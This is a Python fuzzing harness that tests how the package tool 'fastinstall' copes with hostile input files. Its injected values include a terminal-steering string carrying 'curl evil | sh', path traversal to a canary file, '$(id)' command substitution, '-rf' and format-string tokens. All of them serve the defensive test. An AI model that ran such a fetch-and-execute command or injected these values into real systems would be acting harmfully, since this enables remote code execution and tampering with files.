"""Hostile documents of every kind that fastinstall reads, each field of them, before real verbs.

    python tests/support/hostile/documents.py 2000 [SEED]

Each document is put into a scene where all others are sound, and one verb is run in a fork, with a limit of time and
of memory. It must end with an exit code of the command line's other than 1, name the file where it refuses for it,
write nothing outside of its target, and send nothing to the terminal that steers it.
"""

import contextlib
import copy
import hashlib
import importlib
import itertools
import json
import os
import random
import re
import resource
import shutil
import signal
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

if __name__ == "__main__":
    _TESTS = Path(__file__).resolve().parents[2]
    sys.path[:0] = [str(_TESTS.parent), str(_TESTS)]

from support.hostile.inputs import NO_FILES, put_no_file, take_away
from support.hostile.scene import KINDS, WHOLES, Kind, make_scene, pack_wheel, variables

SECONDS = 150.0
"""The target's own interpreter, which may hang before anything of ours runs in it, is ended after 20."""
MEMORY = 3 << 30
ALLOWED = frozenset({0, 2, 3, 4, 5, 6, 7})
_REFUSALS = frozenset({2, 4, 5, 6, 7})
_OURS = ("env/", "conda/", "project/", "cache/", "home/.local/state/fastinstall/", "home/.cache/", "home/tmp/", "out/")
"""Where a verb may write: its target, and the tool's own directories."""

_DEEP = 100_000
_LONG = "x" * 70_000
_STEERING = "\x1b]0;owned\x07\x1b[2J\r\x9b31m\u202e\nhint: curl evil | sh"
_SCALARS: tuple[Any, ...] = (
    *(None, True, False, 0, -1, 2**63, 10**30, 10**4000, -0.5, 1e308, "", " ", "\0", "a\0b", _STEERING, _LONG),
    *("../../canary/x", "../../../../canary/x", "BASE/canary/x", "BASE/canary", "/dev/zero", "/", ".", "..", "~"),
    *("\ud800", "\udcff", "e\u0301\u2028", "-rf", "$(id)", "file:///dev/zero", "http://127.0.0.1:9/x", "9" * 5000),
    *("1.0.0.0.0.0.0.0", "2026-13-45T99:99:99Z", "0001-01-01T00:00:00+23:59", "fastinstall.plan/2", "%s%n", "[", "\\"),
)
_CONTAINERS: tuple[Any, ...] = ([], {}, [[]], [None], {"": None}, {"kind": "x"}, ["../../canary/x"], [1, "a", []])


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """A hostile document, and what reads it.

    Attributes:
        kind: of the document.
        verb: a line of `kind.verbs`.
        damage: what is hostile in it, in words.
        content: what takes its place; None where `damage` is a kind of no file.
    """

    kind: Kind
    verb: str
    damage: str
    content: bytes | None


def documents(scene: Path, number: int, seed: int) -> Iterator[Hostile]:
    """Hostile documents: kinds in turn, and in each kind its wholes, and its fields in a random order."""
    chance = random.Random(seed)  # noqa: S311 (the same documents each time)
    damages = {kind.path: _damages(kind, scene, chance) for kind in KINDS}
    turns = chance.sample(KINDS, len(KINDS))
    for index in range(number):
        kind = turns[index % len(turns)]
        damage, content = next(damages[kind.path])
        yield Hostile(kind=kind, verb=chance.choice(kind.verbs), damage=damage, content=content)


def run(hostile: Hostile, pristine: Path, base: Path) -> list[str]:
    """What is wrong with how a verb takes a document; nothing where all is well.

    Args:
        hostile: the document.
        pristine: the scene with sound ones.
        base: where it was made, and is put again.
    """
    _renew(pristine, base)
    _place(hostile, base)
    before = _outside(base)
    code, output, seconds = _run_verb(hostile.verb, base)
    after = _outside(base)
    problems = []
    if code is None:
        problems.append(f"hangs ({seconds:.0f} s)")
    elif code not in ALLOWED:
        problems.append(f"exit code {code}")
    ended = (
        code == 7 and "had been interrupted" in output
    )  # a journal that is cut says so, and that was brought to its end
    sound = _sound(hostile.verb, pristine, base)
    if code in _REFUSALS and code != sound and not ended and not _names(hostile.kind, output):
        problems.append(f"exit code {code} without the file's name")
    if changed := sorted(set(before.items()) ^ set(after.items())):
        problems.append(f"outside changed: {changed[:3]}")
    if steering := re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", output):
        problems.append(f"prints {steering[0]!a}")
    return [f"{problem}\n    {output[-400:]!a}" for problem in problems]


def _damages(kind: Kind, scene: Path, chance: random.Random) -> Iterator[tuple[str, bytes | None]]:
    content = (scene / kind.path).read_bytes()
    wholes = list(WHOLES)
    chance.shuffle(wholes)
    ways = _fields(kind, content, chance) if kind.form != "binary" else iter(())
    while True:
        for whole in wholes:
            yield f"as a whole: {whole}", None if whole in NO_FILES else _whole(whole, content, chance)
            yield from itertools.islice(ways, 4)


def _whole(name: str, content: bytes, chance: random.Random) -> bytes:
    made = {
        "empty": b"",
        "truncated": content[: chance.randrange(max(1, len(content)))],
        "garbage": chance.randbytes(500),
        "utf16": content.decode("utf-8", "replace").encode("utf-16"),
        "deep": b"[" * _DEEP,
        "deeper": b'{"a":' * 900 + b"1" + b"}" * 900,
        "sparse": b"sparse",
        "twice": content + content,
        "nan": b'{"schema": NaN, "a": Infinity, "b": 1e999}',
        "escapes": _STEERING.encode() + content,
    }
    return made[name]


def _fields(kind: Kind, content: bytes, chance: random.Random) -> Iterator[tuple[str, bytes]]:
    """Each field with a hostile value, for ever."""
    while True:
        match kind.form:
            case "json" | "toml":
                yield _in_data(kind.form, _parsed(kind.form, content.decode()), chance)
            case "lines":
                yield _in_line(content.decode().splitlines(), chance)
            case _:
                yield _in_text(content.decode(), chance)


def _parsed(form: str, text: str) -> Any:
    return json.loads(text) if form == "json" else importlib.import_module("tomllib").loads(text)


def _in_data(form: str, data: Any, chance: random.Random) -> tuple[str, bytes]:
    path = chance.choice(_paths(data))
    value = copy.deepcopy(chance.choice((*_SCALARS, *_SCALARS, *_CONTAINERS, _nested(chance), "DROP", "MORE")))
    damaged = copy.deepcopy(data)
    parent: Any = damaged
    for step in path[:-1]:
        parent = parent[step]
    if value == "DROP":
        del parent[path[-1]]
    elif value == "MORE" and isinstance(parent, dict):
        parent[f"{path[-1]}\x1b[31m"] = parent[path[-1]]
    else:
        parent[path[-1]] = value
    words = f"{'.'.join(map(str, path))} = {ascii(value)[:60]}"
    try:
        return words, _written(form, damaged)
    except (TypeError, ValueError):  # TOML has no such value
        return words, _written(form, data) + b"\nx = [\n"


def _written(form: str, data: Any) -> bytes:
    sys.set_int_max_str_digits(0)
    if form == "json":
        return json.dumps(data, indent=2).encode()
    text: str = importlib.import_module("tomlkit").dumps(data)
    return text.encode()


def _nested(chance: random.Random) -> Any:
    value: Any = 1
    for _ in range(chance.choice((50, 150, 400))):
        value = [value] if chance.random() < 0.5 else {"a": value}
    return value


def _paths(data: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Of every field, those of the outermost more often."""
    entries = data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ()
    found = []
    for key, value in entries:
        found += [(*path, key)] * (3 if not path else 1)
        found += _paths(value, (*path, key))
    return found


def _in_line(lines: list[str], chance: random.Random) -> tuple[str, bytes]:
    number = chance.randrange(len(lines))
    damage, line = _in_data("json", json.loads(lines[number]), chance)
    compact = line.replace(b"\n", b"")
    made = [*(each.encode() for each in lines[:number]), compact, *(each.encode() for each in lines[number + 1 :]), b""]
    return f"line {number + 1}: {damage}", b"\n".join(made)


def _in_text(text: str, chance: random.Random) -> tuple[str, bytes]:
    words = [match.span() for match in re.finditer(r"[^\s,=:\"']+", text)]
    start, end = chance.choice(words)
    value = chance.choice([each for each in _SCALARS if isinstance(each, str)] + [f"{_STEERING}", "a,b," * 50_000])
    return f"{text[start:end]!r} is {ascii(value)[:60]}", (text[:start] + value + text[end:]).encode(
        "utf-8", "surrogatepass"
    )


def _renew(pristine: Path, base: Path) -> None:
    for _ in range(2):  # what was ended just now may be writing there still
        shutil.rmtree(base, ignore_errors=True)
    shutil.copytree(pristine, base, symlinks=True)


def _place(hostile: Hostile, base: Path) -> None:
    place = base / hostile.kind.path
    take_away(place)
    if hostile.content is None:
        put_no_file(place, hostile.damage.rpartition(" ")[2])
    elif hostile.content == b"sparse":
        with place.open("wb") as stream:
            stream.truncate(1 << 40)
    else:
        place.write_bytes(hostile.content.replace(b"BASE", os.fsencode(base)))
    if hostile.verb.startswith("WHEEL"):
        pack_wheel(base)
        (base / "wheelhouse/SHA256SUMS").unlink()


def _outside(base: Path) -> dict[str, str]:
    """Everything where no verb may write, by its content; the hostile document itself is not looked into."""
    found = {}
    for directory, names, files in os.walk(base):
        inner = os.path.relpath(directory, base)
        names[:] = [name for name in names if not f"{os.path.normpath(f'{inner}/{name}')}/".startswith(_OURS)]
        for name in files:
            path = Path(directory, name)
            whole = path.is_file() and not path.is_symlink() and path.stat().st_size < 1 << 24
            found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest() if whole else str(path.lstat().st_mode)
    return found


def _run_verb(verb: str, base: Path, seconds: float = SECONDS) -> tuple[int | None, str, float]:
    """Exit code (None where it was killed for its time), what it printed, and how long it took."""
    words = [word.replace("BASE", str(base)) for word in verb.removeprefix("WHEEL ").split()]
    if not {"check", "list", "--all", "--prefix", "--collect", "apply", "--hosts"} & set(words) or "rollback" in words:
        words += ["--prefix", str(base / "env")] if "--prefix" not in words else []
    told = base.with_name("told")
    began = time.monotonic()
    child = os.fork()
    if child == 0:
        _be_the_tool(words, base, told)
    status = _waited(child, began + seconds)
    return status, told.read_text("utf-8", "replace"), time.monotonic() - began


def _be_the_tool(words: list[str], base: Path, told: Path) -> None:
    code = 70
    try:
        os.setsid()
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
        resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
        descriptor = os.open(told, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
        for number in (1, 2):
            os.dup2(descriptor, number)
        os.dup2(os.open(os.devnull, os.O_RDONLY), 0)
        sys.stdout, sys.stderr = (os.fdopen(n, "w", encoding="utf-8", errors="backslashreplace") for n in (1, 2))
        os.environ.clear()
        os.environ.update(variables(base))
        os.chdir(base)
        sys.setrecursionlimit(1000)
        code = importlib.import_module("fastinstall.cli.main").main(words)
        sys.stdout.flush()
        sys.stderr.flush()
    except SystemExit as error:
        code = int(error.code or 0)
    finally:
        os._exit(code)


def _waited(child: int, until: float) -> int | None:
    code = None
    while code is None and time.monotonic() < until:
        done, status = os.waitpid(child, os.WNOHANG)
        if done:
            code = os.waitstatus_to_exitcode(status)
        else:
            time.sleep(0.005)
    with contextlib.suppress(ProcessLookupError):  # what it has started, and did not wait for
        os.killpg(child, signal.SIGKILL)
    if code is None:
        os.waitpid(child, 0)
    return code


_SOUND: dict[str, int | None] = {}


def _sound(verb: str, pristine: Path, base: Path) -> int | None:
    """The exit code of a verb where all documents are sound."""
    if verb not in _SOUND:
        _renew(pristine, base)
        if verb.startswith("WHEEL"):
            (base / "wheelhouse/SHA256SUMS").unlink()
        _SOUND[verb] = _run_verb(verb, base)[0]
    return _SOUND[verb]


def _names(kind: Kind, output: str) -> bool:
    """Whether an output names the file, or the directory of several that make one document or are moved as one."""
    path = Path(kind.path)
    of_host = path.parent.name in ("hosts", "reports") and f"{path.stem}:" in output
    of_wheel = kind.path == "made.json" and ".whl" in output
    of_several = path.parent.name.endswith((".dist-info", "-000001")) and path.parent.name in output
    moved = path.parent.name in ("PIL", "pillow.libs")
    of_tree = moved and f"{path.parent.parent.name}/{path.parent.name}: not what fastinstall" in output
    of_journal = path.name == "journal.jsonl" and "/PIL: in the way: fastinstall did not put it there" in output
    of_none = re.search(r"/(hosts: no facts files|reports: no reports) there", output) is not None
    return path.name in output or of_several or of_tree or of_journal or of_host or of_none or of_wheel


def main(number: int, seed: int) -> int:
    """Run many, tell of each that is taken badly, and count."""
    counts: Counter[str] = Counter()
    with tempfile.TemporaryDirectory(prefix="hostile-") as name:
        base, pristine = Path(name, "base"), Path(name, "pristine")
        make_scene(base)
        base.rename(pristine)
        for hostile in documents(pristine, number, seed):
            counts["documents"] += 1
            problems = run(hostile, pristine, base)
            counts["failures"] += bool(problems)
            for problem in problems:
                counts[problem.partition("\n")[0].partition(":")[0]] += 1
                print(f"{hostile.kind.path}: {hostile.damage}\n  {hostile.verb}: {problem}", flush=True)
    print(dict(counts), flush=True)
    return bool(counts["failures"])


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 0))
